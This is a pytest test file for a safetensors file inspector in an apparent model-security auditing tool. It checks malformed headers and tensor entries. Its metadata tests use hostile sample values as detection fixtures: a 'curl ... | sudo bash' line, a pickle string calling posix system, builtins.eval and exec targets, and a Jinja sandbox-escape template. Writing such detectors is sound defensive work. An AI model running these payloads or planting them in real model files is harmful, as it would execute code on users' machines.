from __future__ import annotations

import base64
import json
import pickle
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.builders import findings_of, make_snapshot
from tests.formats.inspecting import assert_total, inspect, inspect_with_budget, kinds, mutations, notes, only
from tests.formats.writers_safetensors import entry, honest, safetensors, with_header
from trustaudit.checks.format_damage import WEIGHTS
from trustaudit.filefacts import Coverage
from trustaudit.formats.safetensors import FIRST_READ, MAX_HEADER, inspect_safetensors

FACTS = {"safetensors-metadata", "safetensors-tensors"}
PATCHES = st.lists(st.tuples(st.integers(0, 5000), st.integers(0, 255)), max_size=6)


def one(dtype: str = "F32", shape: list[int] | None = None, begin: int = 0, end: int = 8) -> dict[str, object]:
    return entry(dtype, [2] if shape is None else shape, begin, end)


def test_honest_file_has_facts_only_and_its_tensors_are_not_read() -> None:
    facts = inspect(inspect_safetensors, honest())
    assert facts.coverage is Coverage.STRUCTURE
    assert kinds(facts) == FACTS
    assert only(facts, "safetensors-metadata").get("format") == "pt"
    summary = only(facts, "safetensors-tensors")
    assert (summary.get("tensors"), summary.get("parameters"), summary.get("dtypes")) == ("4", "9", "BF16,F16,F32,I64")


def test_only_the_head_of_a_large_file_is_read() -> None:
    big = safetensors({"w": entry("U8", [5_000_000], 0, 5_000_000)}, bytes(5_000_000))
    facts = inspect(inspect_safetensors, big)
    assert facts.bytes_read <= FIRST_READ
    assert kinds(facts) <= FACTS


def test_a_long_header_takes_one_more_read() -> None:
    names = {f"layer.{i}.weight": entry("U8", [1], i, i + 1) for i in range(4000)}
    facts, reads = inspect_with_budget(inspect_safetensors, safetensors(names, bytes(4000)), 10_000_000)
    assert len(reads) == 2
    assert facts.coverage is Coverage.STRUCTURE
    assert kinds(facts) == {"safetensors-tensors"}


def test_kohya_metadata_is_no_anomaly() -> None:
    metadata = {
        "ss_tag_frequency": json.dumps({f"tag {i}": i for i in range(5000)}),
        "ss_network_args": '{"conv_dim": "4"}',
        "modelspec.thumbnail": "data:image/jpeg;base64," + "gA" + "B" * 3000,
        "modelspec.title": "a model",
        "workflow": '{"nodes": [{"type": "CLIPTextEncode", "widgets_values": ["evaluate (system) of a curl"]}]}',
    }
    facts = inspect(inspect_safetensors, safetensors({"w": one()}, bytes(8), metadata=metadata))
    assert kinds(facts) == FACTS


@pytest.mark.parametrize(
    ("kind", "tensors", "data"),
    [
        ("safetensors-tensor-size", {"w": one(end=9)}, 9),
        ("safetensors-tensor-size", {"w": one("F4", [3], 0, 2)}, 2),
        ("safetensors-dtype", {"w": one("Q7")}, 8),
        ("safetensors-tensor-overflow", {"w": one(shape=[1 << 40, 1 << 40])}, 8),
        ("safetensors-hole", {"w": one(begin=8, end=16)}, 16),
        ("safetensors-overlap", {"v": one(), "w": one(begin=4, end=12)}, 12),
        ("safetensors-trailing-data", {"w": one()}, 100),
        ("safetensors-truncated", {"w": one()}, 7),
        ("safetensors-tensor-entry", {"w": one(begin=8, end=0)}, 8),
        ("safetensors-tensor-entry", {"w": one(shape=[-1])}, 8),
        ("safetensors-tensor-entry", {"w": {"dtype": "F32", "shape": [2]}}, 8),
        ("safetensors-tensor-entry", {"w": "F32"}, 0),
        ("safetensors-tensor-entry", {"w": one(shape=[True, 2])}, 8),
        ("safetensors-tensor-entry", {"w": one(shape=[1] * 1000)}, 8),
        ("safetensors-tensor-keys", {"w": one() | {"loader": "x"}}, 8),
        ("safetensors-tensor-keys", {"w": one() | {"data_offsets": [0, 8, 16]}}, 8),
    ],
)
def test_a_lie_about_a_tensor_is_named(kind: str, tensors: dict[str, object], data: int) -> None:
    assert kind in kinds(inspect(inspect_safetensors, safetensors(tensors, bytes(data))))


@pytest.mark.parametrize(
    ("kind", "file"),
    [
        ("safetensors-duplicate-key", with_header(b'{"w":%s,"w":%s}' % ((json.dumps(one()).encode(),) * 2), bytes(8))),
        (
            "safetensors-number",
            with_header(b'{"__metadata__":{},"w":{"dtype":"F32","shape":[NaN],"data_offsets":[0,0]}}'),
        ),
        (
            "safetensors-number",
            with_header(b'{"w":{"dtype":"F32","shape":[' + b"9" * 5000 + b'],"data_offsets":[0,0]}}'),
        ),
        ("safetensors-header-json", with_header(b"[" * 100_000)),
        ("safetensors-header-json", with_header(b'{"w": \xff}')),
        ("safetensors-header-json", with_header(b"[1, 2]")),
        ("safetensors-header-start", with_header(b' {"w": {}}')),
        ("safetensors-padding", with_header(b"{}\n\t")),
        ("safetensors-header-length", with_header(b"{}", length=MAX_HEADER + 1)),
        ("safetensors-truncated", with_header(b"{}", length=3000)),
        ("safetensors-truncated", b"\x02\0\0"),
        ("safetensors-truncated", b""),
        ("safetensors-metadata-type", safetensors({}, b"", metadata=["format"])),
        ("safetensors-metadata-type", safetensors({}, b"", metadata={"format": 1})),
    ],
)
def test_a_broken_header_is_named(kind: str, file: bytes) -> None:
    assert kind in kinds(inspect(inspect_safetensors, file))


@pytest.mark.parametrize("disguised", [pickle.dumps({"w": 1}), b"PK\x03\x04" + bytes(60), b"GGUF" + bytes(60)])
def test_another_format_under_this_name_is_not_taken_for_a_header(disguised: bytes) -> None:
    facts = inspect(inspect_safetensors, disguised)
    assert facts.coverage is Coverage.PARTIAL
    assert kinds(facts) & {"safetensors-header-length", "safetensors-truncated", "safetensors-header-json"}


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("metadata-pickle", base64.b64encode(pickle.dumps({"state": list(range(9))}, 4)).decode()),
        ("metadata-pickle", "cposix\nsystem\n(S'true'\ntR."),
        ("metadata-private-key", "-----BEGIN OPENSSH PRIVATE KEY-----\nx"),
        ("metadata-script", "<SCRIPT src=x>"),
        ("metadata-shell", "curl -s https://example.test/x | sudo bash"),
        ("metadata-code", "__import__('os')"),
        ("metadata-target", json.dumps({"model": {"_target_": "builtins.eval", "x": 1}})),
    ],
)
def test_metadata_that_some_tools_evaluate_is_named(kind: str, value: str) -> None:
    facts = inspect(inspect_safetensors, safetensors({}, b"", metadata={"config": value}))
    assert only(facts, kind).get("key") == "__metadata__.config"


def test_every_target_of_embedded_hydra_config_is_a_fact() -> None:
    config = json.dumps([{"_target_": "nemo.collections.asr.Model"}, {"_target_": "builtins.exec"}])
    facts = inspect(inspect_safetensors, safetensors({}, b"", metadata={"config": config}))
    assert [n.get("excerpt") for n in notes(facts, "metadata-target")] == [
        "nemo.collections.asr.Model",
        "builtins.exec",
    ]


def test_a_chat_template_in_metadata_is_handed_on_whole() -> None:
    template = "{% for m in messages %}{{ m.content }}{% endfor %}" * 100
    facts = inspect(inspect_safetensors, safetensors({}, b"", metadata={"tokenizer.chat_template": template}))
    assert only(facts, "safetensors-template").get("template") == template
    assert facts.coverage == "structure"


def test_a_chat_template_in_metadata_is_looked_into() -> None:
    template = "{{ ''['__cla' ~ 'ss__'] }}"
    facts = inspect(inspect_safetensors, safetensors({}, b"", metadata={"chat_template": template}))
    (found,) = findings_of("template-escape", make_snapshot(file_facts=(facts,))).values()
    assert (found.severity, found.location.member) == ("critical", "__metadata__.chat_template")


def test_lone_surrogates_do_not_break_the_report() -> None:
    facts = inspect(inspect_safetensors, with_header(b'{"__metadata__":{"a\\ud800":"\\udfff"}}'))
    assert facts.model_dump_json()


def test_a_flood_of_anomalies_is_counted_not_listed() -> None:
    tensors = {f"t{i}": one("Q7", [1], 0, 0) for i in range(500)}
    listed = notes(inspect(inspect_safetensors, safetensors(tensors, b"")), "safetensors-dtype")
    assert len(listed) == 51
    assert listed[-1].get("repeated") == "500"


def test_spent_budget_is_partial_with_the_reason() -> None:
    facts, _ = inspect_with_budget(inspect_safetensors, honest(), 10)
    assert facts.coverage is Coverage.PARTIAL
    assert "budget-spent" in facts.reason


@given(cut=st.integers(0, 400), patches=PATCHES)
def test_any_mutation_is_inspected_without_raising(cut: int, patches: list[tuple[int, int]]) -> None:
    assert_total(inspect_safetensors, mutations(honest(), cut, patches))


@given(st.binary(max_size=300))
def test_any_bytes_are_inspected_without_raising(data: bytes) -> None:
    assert_total(inspect_safetensors, data)
    assert_total(inspect_safetensors, with_header(data))


@pytest.mark.parametrize("dtype", ["float32", "float16", "int64", "uint8", "bool"])
def test_the_reference_writer_and_reader_agree(tmp_path: Path, dtype: str) -> None:
    numpy = pytest.importorskip("numpy")
    library = pytest.importorskip("safetensors.numpy")
    arrays = {"a": numpy.ones((3, 4), dtype), "scalar": numpy.array(1, dtype), "empty": numpy.zeros((0, 2), dtype)}
    library.save_file(arrays, tmp_path / "x.safetensors", metadata={"format": "np"})
    facts = inspect(inspect_safetensors, (tmp_path / "x.safetensors").read_bytes())
    assert facts.coverage is Coverage.STRUCTURE
    assert not {kind for kind in kinds(facts) if kind in WEIGHTS}
    ours = honest()
    assert not {kind for kind in kinds(inspect(inspect_safetensors, ours)) if kind in WEIGHTS}
    assert pytest.importorskip("safetensors").deserialize(ours)


@pytest.mark.parametrize("kind", ["duplicate", "overlap", "hole", "behind", "short"])
def test_what_the_reference_reader_refuses_is_told(kind: str) -> None:
    pytest.importorskip("numpy")
    library = pytest.importorskip("safetensors.numpy")
    entry_a = b'"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}'
    entry_b = b'"b":{"dtype":"F32","shape":[1],"data_offsets":[%d,%d]}'
    made = {
        "duplicate": with_header(b"{" + entry_a + b"," + entry_a + b"}", bytes(4)),
        "overlap": with_header(b"{" + entry_a + b"," + entry_b % (0, 4) + b"}", bytes(4)),
        "hole": with_header(b"{" + entry_a + b"," + entry_b % (8, 12) + b"}", bytes(12)),
        "behind": with_header(b"{" + entry_a + b"}", bytes(40)),
        "short": with_header(b"{" + entry_a + b"}", bytes(2)),
    }[kind]
    assert {found for found in kinds(inspect(inspect_safetensors, made)) if found in WEIGHTS}
    if kind != "duplicate":  # the reference takes the last of two
        with pytest.raises(Exception, match=r"(?i)error"):
            library.load(made)


def test_a_header_beyond_every_model_is_told_and_not_parsed() -> None:
    header = b'{"a":' + b"[" * (17 << 20)
    facts = inspect(inspect_safetensors, with_header(header))
    assert (facts.coverage, kinds(facts)) == (Coverage.PARTIAL, {"safetensors-oversized-header"})
